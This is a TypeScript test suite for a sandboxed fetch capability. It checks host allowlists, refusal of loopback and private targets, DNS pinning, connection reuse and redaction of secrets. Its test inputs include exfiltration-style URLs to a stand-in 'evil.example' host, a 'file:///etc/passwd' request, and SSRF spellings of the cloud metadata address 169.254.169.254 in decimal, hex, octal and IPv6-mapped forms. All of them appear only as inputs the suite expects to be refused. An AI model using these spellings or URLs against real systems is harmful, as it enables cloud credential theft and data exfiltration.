import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { egress, grant, okValue, refusal, text, TOOL } from "./fetch-harness.js";
import { startLoopbackServer, type LoopbackServer } from "./loopback-server.js";

let v4: LoopbackServer;
let v6: LoopbackServer;
let other: LoopbackServer;

before(async () => {
  const echo = (_req: unknown, res: import("node:http").ServerResponse, seen: { method: string; body: string }) => {
    res.setHeader("content-type", "application/json");
    res.setHeader("x-served-by", "loopback");
    res.end(JSON.stringify({ method: seen.method, body: seen.body }));
  };
  v4 = await startLoopbackServer(echo);
  v6 = await startLoopbackServer(echo, { host: "::1" });
  other = await startLoopbackServer(echo);
});
after(async () => {
  await Promise.all([v4.close(), v6.close(), other.close()]);
});

describe("ctx.fetch reaches granted private targets when the operator allowed it", () => {
  test("GET to 127.0.0.1 with allowPrivate returns status, headers and body, and records the hop", async () => {
    const { fetch, records } = egress([grant(`http://127.0.0.1:${v4.port}`, true)]);
    const res = okValue(await fetch({ url: `${v4.origin}/weather?city=Oslo` }));
    assert.equal(res.status, 200);
    assert.equal(res.statusText, "OK");
    assert.equal(res.url, `${v4.origin}/weather?city=Oslo`);
    assert.equal(res.headers["x-served-by"], "loopback");
    assert.deepEqual(JSON.parse(text(res)), { method: "GET", body: "" });
    assert.equal(v4.requests.at(-1)?.url, "/weather?city=Oslo");
    assert.deepEqual(records, [{ host: "127.0.0.1", port: v4.port, method: "GET", status: 200, bytes: res.body.byteLength }]);
  });

  test("POST with a JSON body and headers: content-length computed, Host set by the host", async () => {
    const { fetch } = egress([grant(`http://127.0.0.1:${v4.port}`, true)]);
    const body = JSON.stringify({ city: "Zürich" });
    const res = okValue(await fetch({ url: `${v4.origin}/post`, method: "post", headers: { "Content-Type": "application/json", "X-Api-Key": "k" }, body }));
    assert.deepEqual(JSON.parse(text(res)), { method: "POST", body });
    const seen = v4.requests.at(-1)!;
    assert.equal(seen.headers["content-type"], "application/json");
    assert.equal(seen.headers["x-api-key"], "k");
    assert.equal(seen.headers["content-length"], String(Buffer.byteLength(body)));
    assert.equal(seen.headers.host, `127.0.0.1:${v4.port}`);
    assert.equal(seen.headers["transfer-encoding"], undefined);
  });

  test("a Uint8Array body is sent byte for byte", async () => {
    const { fetch } = egress([grant(`http://127.0.0.1:${v4.port}`, true)]);
    okValue(await fetch({ url: `${v4.origin}/bytes`, method: "PUT", body: new TextEncoder().encode("raw bytes") }));
    assert.equal(v4.requests.at(-1)?.body, "raw bytes");
  });

  test("IPv6 loopback [::1] with allowPrivate works", async () => {
    const { fetch, records } = egress([grant(`http://[::1]:${v6.port}`, true)]);
    assert.equal(okValue(await fetch({ url: `${v6.origin}/` })).status, 200);
    assert.equal(records[0]?.host, "[::1]");
  });

  test("localhost (a name resolving to loopback) with allowPrivate works; the Host header keeps the name", async () => {
    const { fetch } = egress([grant(`http://localhost:${v4.port}`, true)]);
    assert.equal(okValue(await fetch({ url: `http://localhost:${v4.port}/` })).status, 200);
    assert.equal(v4.requests.at(-1)?.headers.host, `localhost:${v4.port}`);
  });

  test("the connection goes to the checked address, never to a second DNS answer (pinning)", async () => {
    // The fake resolver is the only one that knows this name; if the socket
    // resolved it again itself, the system resolver would fail.
    const resolve = async (host: string) => (host === "api.pinned.test" ? ["127.0.0.1"] : []);
    const { fetch } = egress([grant(`http://api.pinned.test:${v4.port}`, true)], { resolve });
    assert.equal(okValue(await fetch({ url: `http://api.pinned.test:${v4.port}/` })).status, 200);
    assert.equal(v4.requests.at(-1)?.headers.host, `api.pinned.test:${v4.port}`);
  });
});

describe("connections are reused within one call only", () => {
  test("two requests through one fetch function share a connection; another call gets its own", async () => {
    const granted = [grant(`http://127.0.0.1:${other.port}`, true)];
    const first = egress(granted);
    const before = other.connections;
    okValue(await first.fetch({ url: `${other.origin}/1` }));
    okValue(await first.fetch({ url: `${other.origin}/2` }));
    assert.equal(other.connections, before + 1);
    okValue(await egress(granted).fetch({ url: `${other.origin}/3` }));
    assert.equal(other.connections, before + 2, "a new call (new fetch function) never inherits a socket");
  });
});

describe("ctx.fetch never rejects", () => {
  test("even when the audit sink throws, the tool gets an error result", async () => {
    const { createEgressFetch } = await import("../../../src/capabilities/network/index.js");
    const fetch = createEgressFetch({ tool: TOOL, grants: [grant("api.example.com")], onEgress: () => { throw new Error("sink down"); } });
    const result = await fetch({ url: "https://evil.example/" }, new AbortController().signal);
    assert.equal(result.ok, false);
  });
});

describe("a pooled connection is reused only for the same checked addresses", () => {
  test("when the name now resolves elsewhere, the old socket is not used", async () => {
    // First answer 127.0.0.1 (where the server is), then 127.0.0.2 (nothing listens there).
    const answers = [["127.0.0.1"], ["127.0.0.2"]];
    const resolve = async () => answers.shift() ?? [];
    const { fetch } = egress([grant(`http://api.moving.test:${other.port}`, true)], { resolve });
    okValue(await fetch({ url: `http://api.moving.test:${other.port}/` }));
    refusal(await fetch({ url: `http://api.moving.test:${other.port}/` }), "E_TOOL_FAILED", /could not connect to api\.moving\.test/);
  });
});

describe("the same loopback targets without allowPrivate are refused before connecting", () => {
  for (const [label, server, pattern, url] of [
    ["127.0.0.1", () => v4, () => `http://127.0.0.1:${v4.port}`, () => `${v4.origin}/`],
    ["[::1]", () => v6, () => `http://[::1]:${v6.port}`, () => `${v6.origin}/`],
    ["localhost", () => v4, () => `http://localhost:${v4.port}`, () => `http://localhost:${v4.port}/`],
    ["[::ffff:127.0.0.1]", () => v4, () => `http://[::ffff:127.0.0.1]:${v4.port}`, () => `http://[::ffff:127.0.0.1]:${v4.port}/`],
    ["2130706433 (127.0.0.1 as a number)", () => v4, () => `http://127.0.0.1:${v4.port}`, () => `http://2130706433:${v4.port}/`],
  ] as const) {
    test(`${label}`, async () => {
      const before = server().connections;
      const { fetch, records } = egress([grant(pattern())]);
      const result = await fetch({ url: url() });
      refusal(result, "E_CAPABILITY_DENIED", /loopback.*which is refused; the operator can allow it with \{"host": ".*", "allowPrivate": true\} in grants\.fetch_weather\.network/);
      assert.equal(server().connections, before, "no connection was attempted");
      assert.equal(records.length, 1);
      assert.equal(records[0]?.status, null);
      assert.match(records[0]?.denied ?? "", /loopback/);
    });
  }

  test("the cloud metadata address is refused in every spelling, even when literally allowed", async () => {
    const { fetch, records } = egress([grant("http://169.254.169.254"), grant("169.254.169.254"), grant("http://[::ffff:169.254.169.254]")]);
    const urls = [
      "http://169.254.169.254/latest/meta-data/",
      "http://2852039166/latest/meta-data/",
      "http://0xA9FEA9FE/",
      "http://0251.0376.0251.0376/",
      "http://169.254.169.254./",
      "https://169.254.169.254/",
      "http://[::ffff:169.254.169.254]/",
      "http://[::ffff:a9fe:a9fe]/",
    ];
    for (const url of urls) refusal(await fetch({ url }), "E_CAPABILITY_DENIED", /link-local \(cloud metadata\)/);
    assert.equal(records.length, urls.length);
    for (const r of records) {
      assert.equal(r.status, null);
      assert.match(r.denied ?? "", /cloud metadata/);
    }
  });
});

describe("allowlist refusals happen before any connection", () => {
  test("a host not in the allowlist", async () => {
    const { fetch, records } = egress([grant("api.example.com")]);
    refusal(await fetch({ url: "https://evil.example/steal?token=s3cret" }), "E_CAPABILITY_DENIED",
      /^network: host evil\.example is not in the allowlist of fetch_weather; add it to the manifest and the operator's grant, then re-approve$/);
    assert.deepEqual(records, [{ host: "evil.example", port: 443, method: "GET", status: null, bytes: 0, denied: "host not in allowlist" }]);
  });

  test("a port that is not granted", async () => {
    const before = other.connections;
    const { fetch } = egress([grant(`http://127.0.0.1:${v4.port}`, true)]);
    refusal(await fetch({ url: `${other.origin}/` }), "E_CAPABILITY_DENIED", new RegExp(`port ${other.port} is not granted for 127\\.0\\.0\\.1 to ${TOOL} \\(granted: ${v4.port}\\)`));
    assert.equal(other.connections, before);
  });

  test("http when only https is granted", async () => {
    const before = v4.connections;
    const { fetch } = egress([grant(`127.0.0.1:${v4.port}`, true)]);
    refusal(await fetch({ url: `${v4.origin}/` }), "E_CAPABILITY_DENIED", /http:\/\/ is not granted for 127\.0\.0\.1.*granted: https only/);
    assert.equal(v4.connections, before);
  });

  test("an allowed DNS host reached by its IP literal", async () => {
    const before = v4.connections;
    const { fetch } = egress([grant(`http://localhost:${v4.port}`, true)]);
    refusal(await fetch({ url: `${v4.origin}/` }), "E_CAPABILITY_DENIED", /host 127\.0\.0\.1 is not in the allowlist.*IP-literal pattern/);
    assert.equal(v4.connections, before);
  });

  test("*.example.org does not match example.org nor evil-example.org", async () => {
    const { fetch } = egress([grant("*.example.org")]);
    refusal(await fetch({ url: "https://example.org/" }), "E_CAPABILITY_DENIED", /host example\.org is not in the allowlist/);
    refusal(await fetch({ url: "https://evil-example.org/" }), "E_CAPABILITY_DENIED", /host evil-example\.org is not in the allowlist/);
  });

  test("non-http(s) URLs and URLs with credentials", async () => {
    const { fetch, records } = egress([grant("api.example.com")]);
    refusal(await fetch({ url: "file:///etc/passwd" }), "E_CAPABILITY_DENIED", /only http and https/);
    refusal(await fetch({ url: "https://user:pw@api.example.com/" }), "E_TOOL_FAILED", /credentials in the URL/);
    refusal(await fetch({ url: "not a url" }), "E_TOOL_FAILED", /not a valid absolute URL/);
    assert.equal(records.length, 3);
    assert.equal(records[1]?.denied, undefined, "a malformed request is a failure, not a policy denial");
  });

  test("messages never contain the URL path or query (which may carry a secret)", async () => {
    const { fetch, records } = egress([grant("api.example.com")]);
    const result = await fetch({ url: "https://evil.example/x?api_key=s3cret", headers: { authorization: "Bearer s3cret" } });
    assert.ok(!result.ok && !result.error.message.includes("s3cret"));
    assert.ok(!JSON.stringify(records).includes("s3cret"));
  });
});
